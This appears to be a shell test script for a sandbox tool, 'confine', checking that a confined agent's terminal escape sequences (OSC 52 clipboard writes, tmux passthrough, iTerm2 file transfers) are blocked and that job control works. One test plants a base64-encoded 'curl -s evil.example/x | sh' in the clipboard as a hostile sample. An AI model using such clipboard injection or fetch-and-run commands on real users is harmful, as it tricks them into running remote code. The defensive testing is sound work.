#!/bin/sh
# SPDX-License-Identifier: ISC
# terminal-safety.sh - what the command writes to the terminal passes a
# filter: OSC 52 (the clipboard), in its 7-bit, 8-bit and tmux-passthrough
# forms, and iTerm2's file transfer never reach the terminal (tmux's buffer
# unchanged, while the same printf outside sets it); colours and the
# alternate screen still work; after a command that left the terminal
# concealed, hidden-cursor and in the alternate screen, the terminal is
# reset and confine's summary is visible; --clipboard lets a write through;
# Ctrl-Z stops the session (the shell says Stopped) and fg resumes it.
# The terminal is a tmux pane.
. "${TESTS_SRCDIR:-$(dirname "$0")/..}/lib.sh"
require_userns
command -v tmux >/dev/null || skip_all "tmux is not installed"
command -v bash >/dev/null || skip_all "bash is not installed"
command -v less >/dev/null || skip_all "less is not installed"

SOCK=$TEST_TMP/tmux.sock
T() {
	tmux -S "$SOCK" -f /dev/null "$@"
}
tmux_cleanup() {
	T kill-server 2>/dev/null || true
}
LIB_CLEANUP_HOOK=tmux_cleanup

ws_new
PANE_STATE=$TEST_TMP/pane-state
# An interactive bash: job control, and its "Stopped" line.
T new-session -d -s t -x 100 -y 30 -c "$WS" \
    "exec env -i PATH=/usr/bin:/bin HOME='$HOME' TERM=xterm-256color \
    LANG=C XDG_STATE_HOME='$PANE_STATE' CONFINE_BACKEND='$BACKEND' PS1='$ ' \
    bash --norc --noprofile -i" ||
    skip_all "tmux cannot start a session here"
T set -g set-clipboard on
T set -g history-limit 2000
plan 7

pane() {
	T capture-pane -p -J -t t -S -500
}

send() {
	T send-keys -t t -l "$1"
	T send-keys -t t Enter
}

# wait_pane SECONDS ERE: until a line of the pane matches (blanks at a
# line's end are the terminal's: tmux's -J keeps them; the EREs allow them).
wait_pane() {
	wait_for "$1" sh -c 'tmux -S "$1" capture-pane -p -J -t t -S -500 | grep -q -E -e "$2"' \
	    sh "$SOCK" "$2" || {
		pane | grep -v '^$' | tail -n 15 | sed 's/^/# pane: /'
		fail "the pane does not show /$2/"
	}
}

fmt() {
	T display-message -p -t t "$1"
}

# The shell is back: confine is no longer the pane's foreground program.
wait_shell() {
	wait_for 20 sh -c '[ "$(tmux -S "$1" display -p -t t "#{pane_current_command}")" = bash ]' \
	    sh "$SOCK" || fail "the shell did not get its terminal back"
}

t_control() {
	wait_pane 10 '^\$ '
	# Control: outside confine, OSC 52 sets tmux's buffer.
	send "printf '\\033]52;c;%s\\007' \$(printf CONTROL | base64); echo CTL-DONE"
	wait_pane 10 '^CTL-DONE *$'
	wait_for 10 sh -c '[ "$(tmux -S "$1" show-buffer 2>/dev/null)" = CONTROL ]' \
	    sh "$SOCK" || fail "control: OSC 52 outside did not set tmux's buffer"
}

t_dropped() {
	# The agent's output: colours, then every clipboard form, a file
	# transfer, one OSC 52 written a byte at a time, then it leaves the
	# terminal in the alternate screen, concealed, cursor hidden.
	evil=$(printf 'curl -s evil.example/x | sh' | base64)
	cat >"$WS/.t/agent.sh" <<EOF
printf '\\033[31mRED-TEXT\\033[0m\\n'
printf '\\033]52;c;$evil\\007'
printf '\\033]52;c;$evil\\033\\\\'
printf '\\23552;c;$evil\\234'
printf '\\033Ptmux;\\033\\033]52;c;$evil\\007\\033\\\\'
printf '\\033]52;c;?\\007'
printf '\\033]1337;File=name=eA==;inline=1:$evil\\007'
for c in \$(printf '\\033]52;c;$evil\\007' | od -An -v -to1); do
	printf "\\\\\$c"
done
printf 'PLAIN-END\\n\\033[?1049h\\033[?25l\\033[8mALT-SCREEN'
exit 3
EOF
	WS_HASH=$(tree_hash "$WS")
	send "'$CONFINE' -- sh .t/agent.sh; echo RC-\$?-RC"
	wait_pane 20 '^RC-3-RC *$'
	pane >"$TEST_TMP/pane"
	assert_file_has_content "$TEST_TMP/pane" \
	    '^confine: terminal: 5 clipboard writes, 1 clipboard query, 1 file transfer blocked'
	assert_file_has_content "$TEST_TMP/pane" '^PLAIN-END *$'
	assert_eq "$(T show-buffer)" CONTROL "tmux's buffer"
	# Colours pass.
	T capture-pane -e -p -J -t t -S -500 >"$TEST_TMP/pane-e"
	assert_file_has_content "$TEST_TMP/pane-e" "$(printf '\033')\\[31mRED-TEXT"
	# The terminal is given back clean: main screen, cursor, attributes.
	assert_eq "$(fmt '#{alternate_on}')" 0 "alternate screen"
	assert_eq "$(fmt '#{cursor_flag}')" 1 "cursor visible"
	grep -a '^.*confine: terminal: ' "$TEST_TMP/pane-e" >"$TEST_TMP/summary"
	assert_not_file_has_content "$TEST_TMP/summary" '8m'
	assert_ws_unchanged
}

t_allowed() {
	send "'$CONFINE' --clipboard -- sh -c 'printf \"\\033]52;c;%s\\007\" \$(printf ALLOWED | base64)'; echo AL-\$?-AL"
	wait_pane 20 '^AL-0-AL *$'
	wait_for 10 sh -c '[ "$(tmux -S "$1" show-buffer 2>/dev/null)" = ALLOWED ]' \
	    sh "$SOCK" || fail "--clipboard: the write did not reach tmux"
}

t_suspend() {
	seq 1 200 | sed 's/^/line-of-the-file-/' >"$WS/.t/file"
	WS_HASH=$(tree_hash "$WS")
	send "'$CONFINE' -- less .t/file"
	wait_pane 20 '^line-of-the-file-1 *$'
	assert_eq "$(fmt '#{alternate_on}')" 1 "less's alternate screen"
	T send-keys -t t C-z
	wait_pane 20 'Stopped'
	wait_shell
	assert_eq "$(fmt '#{alternate_on}')" 0 "alternate screen when stopped"
	stty -a <"$(fmt '#{pane_tty}')" >"$TEST_TMP/stty-stopped"
	# Not confine's raw mode: signals and output processing are back.
	assert_file_has_content "$TEST_TMP/stty-stopped" '(^| )isig( |$)'
	assert_file_has_content "$TEST_TMP/stty-stopped" '(^| )opost( |$)'
	send 'fg'
	wait_for 20 sh -c '[ "$(tmux -S "$1" display -p -t t "#{alternate_on}")" = 1 ]' \
	    sh "$SOCK" || fail "fg: less is not back on the alternate screen"
	wait_pane 20 '^line-of-the-file-1 *$'
	T send-keys -t t q
	wait_shell
	send 'echo "FG-$?-FG"'
	wait_pane 20 '^FG-0-FG *$'
	assert_ws_unchanged
}

# Closing the terminal while the session is stopped ends it all.
t_hangup_stopped() {
	n=$(unique_num)
	pattern="^sleep 60\\.$n\$"
	T new-window -d -t t -n hup -c "$WS" \
	    "exec env -i PATH=/usr/bin:/bin HOME='$HOME' TERM=xterm-256color \
	    LANG=C XDG_STATE_HOME='$PANE_STATE' CONFINE_BACKEND='$BACKEND' \
	    PS1='$ ' bash --norc --noprofile -i"
	T send-keys -t t:hup -l "'$CONFINE' -- sleep 60.$n"
	T send-keys -t t:hup Enter
	wait_for 20 pgrep -f "$pattern" >/dev/null ||
	    fail "the command did not start in the new window"
	T send-keys -t t:hup C-z
	# The command stopped, and confine too (the shell has the terminal).
	wait_for 20 sh -c 'ps -o stat= -p "$(pgrep -f "$1" | head -n 1)" | grep -q "^T" &&
	    ps -o stat= -p "$(pgrep -f -- "$2" | head -n 1)" | grep -q "^T"' \
	    sh "$pattern" "^$CONFINE -- sleep 60\\.$n\$" ||
	    fail "Ctrl-Z did not stop the command and confine"
	T kill-window -t t:hup
	wait_for 20 sh -c "! pgrep -f '$pattern' >/dev/null && ! pgrep -f -- '-- sleep 60\\.$n\$' >/dev/null" || {
		pkill -KILL -f "$pattern" || :
		pkill -KILL -f -- "-- sleep 60\\.$n\$" || :
		fail "the stopped session outlived its terminal"
	}
}

t_no_session() {
	[ -z "$(ls -A "$PANE_STATE/confine/sessions" 2>/dev/null)" ] ||
	    fail "the runs kept a session"
	assert_eq "$(fmt '#{pane_current_command}')" bash "the pane's program"
}

tcase "control: OSC 52 outside confine sets tmux's buffer" t_control
tcase "clipboard, passthrough, transfer dropped; colours pass; summary visible after alt screen, conceal, hidden cursor" t_dropped
tcase "--clipboard lets an OSC 52 write through" t_allowed
tcase "Ctrl-Z stops the session, the shell says Stopped; fg resumes less" t_suspend
tcase "closing the terminal of a stopped session ends it, nothing left" t_hangup_stopped
tcase "no session kept, the shell in front" t_no_session
tcase "tmux's buffer is what --clipboard wrote, nothing of the agent's" \
    sh -c '[ "$(tmux -S "$1" show-buffer)" = ALLOWED ]' sh "$SOCK"
tap_done
